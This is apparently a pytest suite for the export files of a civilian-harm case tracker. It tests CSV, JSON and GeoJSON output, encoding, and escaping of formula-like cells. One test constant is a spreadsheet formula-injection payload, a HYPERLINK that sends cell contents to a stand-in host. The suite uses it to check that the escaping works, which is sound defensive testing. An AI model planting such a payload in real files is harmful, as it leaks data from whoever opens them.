"""The files under /exports/: what a person gets in a spreadsheet, a map or a script."""

from __future__ import annotations

import codecs
import copy
import csv
import datetime as dt
import io
import json
from typing import Any

import jsonschema
import pytest

from conftest import TODAY, sample_config
from generator.checks.corpus import load_corpus
from generator.publish.reference import json_schema
from generator.publish.site.exports import EXPORTS, Column, Export, build_exports, guard_formula
from generator.records.schema import Case, count_bounds

GENERATED = dt.date(2026, 11, 28)
CSV_FILES = ("cases.csv", "sources.csv", "weapons.csv", "actions.csv")
COUNT_FIELDS = ("killed", "injured", "children_killed", "children_injured", "women_killed",
                "women_injured", "men_killed", "men_injured")

# --------------------------------------------------------------------------
# Helpers.


@pytest.fixture(scope="module")
def sample_cases() -> list[Case]:
    corpus = load_corpus(sample_config(), today=TODAY)
    assert not corpus.report().errors
    return corpus.cases


@pytest.fixture(scope="module")
def sample(sample_cases: list[Case]) -> dict[str, bytes]:
    return build_exports(sample_cases, profile="internal", generated=GENERATED)


def build(*cases: Case, profile: str = "internal") -> dict[str, bytes]:
    return build_exports(list(cases), profile=profile, generated=GENERATED)


def read_csv(data: bytes) -> tuple[list[str], list[dict[str, str]]]:
    """Parse a CSV export as a spreadsheet would: BOM first, then UTF-8 text."""
    assert data.startswith(codecs.BOM_UTF8), "no byte order mark"
    text = data[len(codecs.BOM_UTF8):].decode("utf-8")
    assert not text.startswith("\ufeff"), "two byte order marks"
    reader = csv.DictReader(io.StringIO(text, newline=""))
    rows = list(reader)
    assert reader.fieldnames is not None
    return list(reader.fieldnames), rows


def export(name: str) -> Export:
    return next(e for e in EXPORTS if e.file == name)


def leaves(value: Any) -> list[Any]:
    if isinstance(value, dict):
        return [leaf for v in value.values() for leaf in leaves(v)]
    if isinstance(value, list):
        return [leaf for v in value for leaf in leaves(v)]
    return [value]


MINIMAL: dict[str, Any] = {
    "id": "CH-2024-0100",
    "title": "A minimal case",
    "opened": "2024-03-01",
    "stage": "intake",
    "status": "active",
    "next_review": "2024-04-01",
    "sensitivity": "CLEAR",
    "stage_history": [
        {"stage": "intake", "date": "2024-03-01", "by": "jdoe", "note": "Logged."},
    ],
    "incident": {
        "date": "2024-02",
        "country": "YEM",
        "location_precision": "country",
        "attribution": "unknown",
    },
    "sources": [
        {"key": "S1", "type": "media", "visibility": "public", "title": "A report",
         "url": "https://example.org/r", "accessed": "2024-03-01"},
    ],
}


def make_case(**changes: Any) -> Case:
    data = copy.deepcopy(MINIMAL)
    data.update(changes)
    return Case.model_validate(data)


HOSTILE_TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"Click here")'
TRICKY_TITLE = 'Strike on the "Old Souk", Ḥayy al-Sūq — café, سوق\nsecond line'

RICH = make_case(
    id="CH-2024-0101",
    title=TRICKY_TITLE,
    opened="2024-03-02",
    stage="policy-impact-assessment",
    status="awaiting-information",
    assignee="asmith",
    stage_history=[
        {"stage": "intake", "date": "2024-03-02", "by": "asmith", "note": "Logged."},
        {"stage": "incident-analysis", "date": "2024-03-09", "by": "asmith", "note": "On."},
        {"stage": "policy-impact-assessment", "date": "2024-04-20", "by": "mkhan",
         "note": "Credible."},
    ],
    incident={
        "date": "2024-02-01/2024-02-03~",
        "country": "PER",
        "admin1": "Lima",
        "place": "Barrio Ejemplo (fictional)",
        "coordinates": {"lat": -12.0464, "lon": -77.0428},
        "location_precision": "street",
        "partner_force": "Example Force, 3rd \"Eagle\" Brigade",
        "operation_type": "air",
        "attribution": "likely",
    },
    harm={
        "killed": {"min": 3, "max": 7},
        "injured": None,
        "children_killed": 2,
        "civilian_objects": ["residential", "school"],
    },
    weapons=[
        {"category": "guided-bomb", "designation": "-GBU-39/B", "us_origin": "likely",
         "us_origin_basis": ["remnant-markings", "expert-assessment"]},
        {"category": "aircraft", "us_origin": "unknown"},
    ],
    sources=[
        {"key": "S1", "type": "media", "visibility": "public", "title": "@channel: first report",
         "url": "https://example.org/a?x=1,2", "published": "2024-02-02",
         "accessed": "2024-03-02", "reliability": "B", "credibility": 2, "language": "ar"},
        {"key": "S2", "type": "civil-society", "visibility": "public", "title": "Summary",
         "url": "https://example.net/b", "accessed": "2024-03-03"},
        {"key": "S3", "type": "media", "visibility": "non-public", "accessed": "2024-03-04"},
    ],
    assessment={
        "harm_finding": "credible",
        "ihl_concern": "possible",
        "recommendations": ["partner-engagement", "training"],
        "reviewed_by": ["asmith", "mkhan"],
    },
    actions=[
        {"type": "partner-engagement", "status": "in-progress", "date": "2024-05-01",
         "note": "+ raised at the\nquarterly dialogue"},
    ],
    related=["CH-2024-0100"],
    aliases=["-2+3", "airwars:x1"],
    tags=["school", "night-strike"],
)
HOSTILE = make_case(id="CH-2024-0102", title=HOSTILE_TITLE,
                    incident={**MINIMAL["incident"], "coordinates": {"lat": 1e-05, "lon": -0.5}})
PLAIN = make_case()

# --------------------------------------------------------------------------
# The list of exports and its documentation.


def test_the_builder_writes_exactly_the_listed_files(sample: dict[str, bytes]) -> None:
    assert list(sample) == [e.file for e in EXPORTS]
    assert [e.file for e in EXPORTS] == ["cases.json", "cases.csv", "sources.csv",
                                         "weapons.csv", "actions.csv", "cases.geojson",
                                         "case.schema.json"]


def test_every_export_and_column_has_a_one_sentence_description() -> None:
    for item in EXPORTS:
        assert item.description.strip() and item.description.endswith("."), item.file
        names = [c.name for c in item.columns]
        assert len(names) == len(set(names)), f"{item.file}: a column is listed twice"
        for column in item.columns:
            assert isinstance(column, Column)
            assert column.description.endswith("."), (item.file, column.name)
            assert "\n" not in column.description
    assert all(e.columns for e in EXPORTS if e.file != "case.schema.json")


EXPECTED_HEADERS = {
    "cases.csv": [
        "id", "title", "opened", "stage", "stage_entered", "status", "closure_reason",
        "duplicate_of", "next_review", "sensitivity", "assignee",
        "incident_date", "incident_date_start", "incident_date_end",
        "incident_date_approximate", "country", "admin1", "admin2", "place", "lat", "lon",
        "location_precision", "partner_force", "unit", "operation_type", "attribution",
        "killed_min", "killed_max", "injured_min", "injured_max",
        "children_killed_min", "children_killed_max", "children_injured_min",
        "children_injured_max", "women_killed_min", "women_killed_max", "women_injured_min",
        "women_injured_max", "men_killed_min", "men_killed_max", "men_injured_min",
        "men_injured_max", "civilian_objects", "weapon_count", "source_count", "source_types",
        "action_count", "harm_finding", "ihl_concern", "avoidable", "recurrence_risk",
        "partner_position", "recommendations", "reviewed_by", "related", "aliases", "tags",
        "profile",
    ],
    "sources.csv": ["case_id", "key", "type", "visibility", "title", "publisher", "published",
                    "url", "archive_url", "language", "accessed", "reliability", "credibility",
                    "profile"],
    "weapons.csv": ["case_id", "index", "category", "designation", "us_origin",
                    "us_origin_basis", "profile"],
    "actions.csv": ["case_id", "index", "type", "status", "date", "note", "profile"],
}


@pytest.mark.parametrize("name", CSV_FILES)
def test_csv_header_is_exactly_the_documented_columns(name: str,
                                                      sample: dict[str, bytes]) -> None:
    header, _ = read_csv(sample[name])
    assert header == EXPECTED_HEADERS[name]
    assert header == [c.name for c in export(name).columns], "header and documentation differ"
    # The raw first line too: a spreadsheet sees exactly these bytes.
    first = sample[name].split(b"\r\n", 1)[0]
    assert first == codecs.BOM_UTF8 + ",".join(EXPECTED_HEADERS[name]).encode()


@pytest.mark.parametrize("name", CSV_FILES)
def test_an_empty_corpus_gives_the_header_alone(name: str) -> None:
    data = build()[name]
    assert data == codecs.BOM_UTF8 + (",".join(EXPECTED_HEADERS[name]) + "\r\n").encode()


def test_json_keys_are_the_documented_ones(sample: dict[str, bytes]) -> None:
    document = json.loads(sample["cases.json"])
    assert list(document) == [c.name for c in export("cases.json").columns]
    geo = json.loads(sample["cases.geojson"])
    documented = [c.name for c in export("cases.geojson").columns]
    top = [n for n in documented if not n.startswith("properties.")]
    properties = [n.removeprefix("properties.") for n in documented if n not in top]
    assert list(geo) == top
    assert geo["features"], "the sample corpus has cases with coordinates"
    for feature in geo["features"]:
        assert list(feature["properties"]) == properties


# --------------------------------------------------------------------------
# CSV conventions.


@pytest.mark.parametrize("name", CSV_FILES)
def test_csv_is_utf8_with_bom_and_crlf(name: str, sample: dict[str, bytes]) -> None:
    data = sample[name]
    assert data.startswith(codecs.BOM_UTF8)
    assert data.endswith(b"\r\n")
    assert b"\r\n" in data.split(codecs.BOM_UTF8, 1)[1][:2000]
    data.decode("utf-8")  # strictly valid UTF-8


def test_sample_corpus_one_row_per_case_and_item(sample_cases: list[Case],
                                                 sample: dict[str, bytes]) -> None:
    ordered = sorted(sample_cases, key=lambda c: c.id)
    _, cases = read_csv(sample["cases.csv"])
    assert [r["id"] for r in cases] == [c.id for c in ordered]

    _, sources = read_csv(sample["sources.csv"])
    assert [(r["case_id"], r["key"]) for r in sources] == [
        (c.id, s.key) for c in ordered for s in c.sources]

    _, weapons = read_csv(sample["weapons.csv"])
    assert [(r["case_id"], r["index"]) for r in weapons] == [
        (c.id, str(i)) for c in ordered for i in range(1, len(c.weapons) + 1)]

    _, actions = read_csv(sample["actions.csv"])
    assert [(r["case_id"], r["index"]) for r in actions] == [
        (c.id, str(i)) for c in ordered for i in range(1, len(c.actions) + 1)]

    for row, case in zip(cases, ordered, strict=True):
        assert row["weapon_count"] == str(len(case.weapons))
        assert row["source_count"] == str(len(case.sources))
        assert row["action_count"] == str(len(case.actions))
        assert row["profile"] == "internal"
    assert {r["profile"] for r in sources + weapons + actions} == {"internal"}


def test_sample_corpus_counts_and_dates_match_the_cases(sample_cases: list[Case],
                                                        sample: dict[str, bytes]) -> None:
    _, rows = read_csv(sample["cases.csv"])
    by_id = {r["id"]: r for r in rows}
    for case in sample_cases:
        row = by_id[case.id]
        assert row["title"] == guard_formula(case.title)
        assert row["opened"] == case.opened.isoformat()
        assert row["stage"] == case.stage.value
        assert row["stage_entered"] == case.stage_history[-1].date.isoformat()
        assert row["next_review"] == (case.next_review.isoformat() if case.next_review else "")
        assert row["incident_date"] == case.incident.date.text
        assert row["incident_date_start"] == case.incident.date.start.isoformat()
        assert row["incident_date_end"] == case.incident.date.end.isoformat()
        for field in COUNT_FIELDS:
            bounds = count_bounds(getattr(case.harm, field) if case.harm else None)
            expected = ("", "") if bounds is None else (str(bounds[0]), str(bounds[1]))
            assert (row[f"{field}_min"], row[f"{field}_max"]) == expected, (case.id, field)


def test_round_trip_of_a_hard_case() -> None:
    _, rows = read_csv(build(RICH, HOSTILE, PLAIN)["cases.csv"])
    assert [r["id"] for r in rows] == ["CH-2024-0100", "CH-2024-0101", "CH-2024-0102"]
    row = rows[1]
    # Comma, quotes, newline and non-ASCII text come back exactly.
    assert row["title"] == TRICKY_TITLE
    assert row["partner_force"] == 'Example Force, 3rd "Eagle" Brigade'
    assert row["place"] == "Barrio Ejemplo (fictional)"
    # A range is two columns; an exact number is the same in both; unknown is empty.
    assert (row["killed_min"], row["killed_max"]) == ("3", "7")
    assert (row["injured_min"], row["injured_max"]) == ("", "")
    assert (row["children_killed_min"], row["children_killed_max"]) == ("2", "2")
    assert (row["women_killed_min"], row["women_killed_max"]) == ("", "")
    # Negative coordinates stay numbers: no apostrophe.
    assert (row["lat"], row["lon"]) == ("-12.0464", "-77.0428")
    assert float(row["lat"]) == -12.0464 and float(row["lon"]) == -77.0428
    # The fuzzy incident date: its text, its bounds, and whether it is approximate.
    assert row["incident_date"] == "2024-02-01/2024-02-03~"
    assert (row["incident_date_start"], row["incident_date_end"]) == ("2024-02-01",
                                                                        "2024-02-03")
    assert row["incident_date_approximate"] == "true"
    # The rest of the flattening.
    assert row["stage_entered"] == "2024-04-20"
    assert row["status"] == "awaiting-information"
    assert row["closure_reason"] == "" and row["duplicate_of"] == ""
    assert row["civilian_objects"] == "residential; school"
    assert row["source_types"] == "media; civil-society"
    assert (row["weapon_count"], row["source_count"], row["action_count"]) == ("2", "3", "1")
    assert row["harm_finding"] == "credible" and row["ihl_concern"] == "possible"
    assert row["avoidable"] == "not-assessed"  # the schema's default, present on the model
    assert row["recurrence_risk"] == "" and row["partner_position"] == ""
    assert row["recommendations"] == "partner-engagement; training"
    assert row["reviewed_by"] == "asmith; mkhan"
    assert row["related"] == "CH-2024-0100"
    assert row["aliases"] == "'-2+3; airwars:x1"  # guarded: the cell starts with "-"
    assert row["tags"] == "school; night-strike"
    assert row["operation_type"] == "air" and row["unit"] == "" and row["admin2"] == ""


def test_a_formula_looking_title_is_guarded_and_numbers_are_not() -> None:
    data = build(HOSTILE)["cases.csv"]
    _, (row,) = read_csv(data)
    assert row["title"] == "'" + HOSTILE_TITLE
    assert b",=HYPERLINK" not in data and b',"=HYPERLINK' not in data
    # A tiny latitude is written as a plain decimal, a negative longitude as a number.
    assert (row["lat"], row["lon"]) == ("0.00001", "-0.5")


def test_nothing_is_invented_for_a_case_without_harm_or_assessment() -> None:
    _, (row,) = read_csv(build(PLAIN)["cases.csv"])
    for field in COUNT_FIELDS:
        assert row[f"{field}_min"] == row[f"{field}_max"] == ""
    for empty in ("civilian_objects", "harm_finding", "ihl_concern", "avoidable",
                  "recommendations", "reviewed_by", "lat", "lon", "assignee", "partner_force",
                  "operation_type", "related", "aliases", "tags"):
        assert row[empty] == "", empty
    assert (row["weapon_count"], row["action_count"], row["source_count"]) == ("0", "0", "1")
    assert (row["incident_date_start"], row["incident_date_end"]) == ("2024-02-01",
                                                                        "2024-02-29")
    assert row["incident_date_approximate"] == "false"


def test_item_tables_round_trip() -> None:
    files = build(RICH)
    _, sources = read_csv(files["sources.csv"])
    assert [s["key"] for s in sources] == ["S1", "S2", "S3"]
    first = sources[0]
    assert first["title"] == "'@channel: first report"
    assert first["url"] == "https://example.org/a?x=1,2"
    assert (first["published"], first["accessed"]) == ("2024-02-02", "2024-03-02")
    assert (first["reliability"], first["credibility"], first["language"]) == ("B", "2", "ar")
    assert sources[2]["visibility"] == "non-public"
    assert sources[2]["title"] == sources[2]["url"] == sources[2]["published"] == ""

    _, weapons = read_csv(files["weapons.csv"])
    assert [(w["index"], w["category"]) for w in weapons] == [("1", "guided-bomb"),
                                                               ("2", "aircraft")]
    assert weapons[0]["designation"] == "'-GBU-39/B"
    assert weapons[0]["us_origin_basis"] == "remnant-markings; expert-assessment"
    assert weapons[1]["designation"] == weapons[1]["us_origin_basis"] == ""

    _, (action,) = read_csv(files["actions.csv"])
    assert action == {"case_id": "CH-2024-0101", "index": "1", "type": "partner-engagement",
                      "status": "in-progress", "date": "2024-05-01",
                      "note": "'+ raised at the\nquarterly dialogue", "profile": "internal"}


@pytest.mark.parametrize(("text", "expected"), [
    ("=1+1", "'=1+1"),
    ("+1", "'+1"),
    ("-1", "'-1"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"),
    ("\rx", "'\rx"),
    ("plain", "plain"),
    ("a=b", "a=b"),
    ("'quoted", "'quoted"),
    ("", ""),
])
def test_guard_formula(text: str, expected: str) -> None:
    assert guard_formula(text) == expected


def test_the_profile_is_stated_in_every_export() -> None:
    files = build(RICH, profile="public")
    for name in CSV_FILES:
        _, rows = read_csv(files[name])
        assert rows and {r["profile"] for r in rows} == {"public"}, name
    assert json.loads(files["cases.json"])["profile"] == "public"
    assert json.loads(files["cases.geojson"])["profile"] == "public"


# --------------------------------------------------------------------------
# JSON, GeoJSON and the schema.


def test_cases_json(sample_cases: list[Case], sample: dict[str, bytes]) -> None:
    data = sample["cases.json"]
    assert data.endswith(b"}\n") and not data.endswith(b"\n\n")
    document = json.loads(data.decode("utf-8"))
    assert document["profile"] == "internal"
    assert document["generated"] == "2026-11-28"
    assert document["count"] == len(sample_cases) == len(document["cases"]) == 22
    ids = [c["id"] for c in document["cases"]]
    assert ids == sorted(c.id for c in sample_cases)
    by_id = {c.id: c for c in sample_cases}
    for item in document["cases"]:
        assert item == by_id[item["id"]].model_dump(mode="json")
        # Dates, fuzzy dates and enumerations are plain JSON values.
        assert all(type(v) in (str, int, float, bool, type(None)) for v in leaves(item))
        assert item["incident"]["date"] == by_id[item["id"]].incident.date.text
        # Lossless: the record reads back as the same case.
        assert Case.model_validate(item) == by_id[item["id"]]
    assert data.startswith(b'{\n  "profile": "internal",\n'), "indented by two spaces"


def test_cases_json_keeps_non_ascii_as_text() -> None:
    data = build(RICH)["cases.json"]
    assert "Ḥayy al-Sūq — café, سوق".encode() in data
    assert b"\\u" not in data
    (item,) = json.loads(data)["cases"]
    assert item["title"] == TRICKY_TITLE  # JSON needs no formula guard
    assert item["harm"]["killed"] == {"min": 3, "max": 7}
    assert item["harm"]["injured"] is None
    assert item["incident"]["date"] == "2024-02-01/2024-02-03~"
    assert item["opened"] == "2024-03-02"


def test_every_case_in_cases_json_validates_against_the_schema(sample: dict[str, bytes]) -> None:
    schema = json.loads(sample["case.schema.json"])
    assert schema == json_schema()
    assert sample["case.schema.json"].endswith(b"}\n")
    validator = jsonschema.Draft202012Validator(schema)
    cases = json.loads(sample["cases.json"])["cases"]
    cases += json.loads(build(RICH, HOSTILE)["cases.json"])["cases"]
    for item in cases:
        errors = [e.message for e in validator.iter_errors(item)]
        assert not errors, (item["id"], errors)


def test_geojson(sample_cases: list[Case], sample: dict[str, bytes]) -> None:
    geo = json.loads(sample["cases.geojson"])
    assert geo["type"] == "FeatureCollection"
    assert (geo["profile"], geo["generated"]) == ("internal", "2026-11-28")
    located = sorted((c for c in sample_cases if c.incident.coordinates), key=lambda c: c.id)
    assert [f["id"] for f in geo["features"]] == [c.id for c in located]
    for feature, case in zip(geo["features"], located, strict=True):
        where = case.incident.coordinates
        assert where is not None
        assert feature["type"] == "Feature"
        assert feature["geometry"] == {"type": "Point", "coordinates": [where.lon, where.lat]}
        properties = feature["properties"]
        assert properties["id"] == case.id and properties["title"] == case.title
        assert properties["url"] == f"../cases/{case.id}/"
        assert properties["incident_date"] == case.incident.date.text


def test_geojson_point_is_lon_lat_and_counts_are_bounds() -> None:
    geo = json.loads(build(RICH, PLAIN)["cases.geojson"])
    (feature,) = geo["features"]  # PLAIN has no coordinates
    assert feature["geometry"]["coordinates"] == [-77.0428, -12.0464]
    properties = feature["properties"]
    assert (properties["killed_min"], properties["killed_max"]) == (3, 7)
    assert (properties["injured_min"], properties["injured_max"]) == (None, None)
    assert properties["status"] == "awaiting-information"
    assert properties["country"] == "PER"
    assert properties["partner_force"] == 'Example Force, 3rd "Eagle" Brigade'
    assert properties["location_precision"] == "street"
    assert (properties["incident_date_start"], properties["incident_date_end"]) == (
        "2024-02-01", "2024-02-03")


# --------------------------------------------------------------------------
# Determinism.


def test_exports_are_deterministic(sample_cases: list[Case], sample: dict[str, bytes]) -> None:
    again = build_exports(list(sample_cases), profile="internal", generated=GENERATED)
    assert again == sample
    reordered = build_exports(list(reversed(sample_cases)), profile="internal",
                              generated=GENERATED)
    assert reordered == sample, "the order the cases come in must not matter"


def test_only_the_profile_and_date_change_the_metadata(sample_cases: list[Case],
                                                       sample: dict[str, bytes]) -> None:
    later = build_exports(sample_cases, profile="internal", generated=dt.date(2027, 1, 1))
    for name in (*CSV_FILES, "case.schema.json"):
        assert later[name] == sample[name], name
    assert json.loads(later["cases.json"])["cases"] == json.loads(sample["cases.json"])["cases"]
    assert json.loads(later["cases.json"])["generated"] == "2027-01-01"
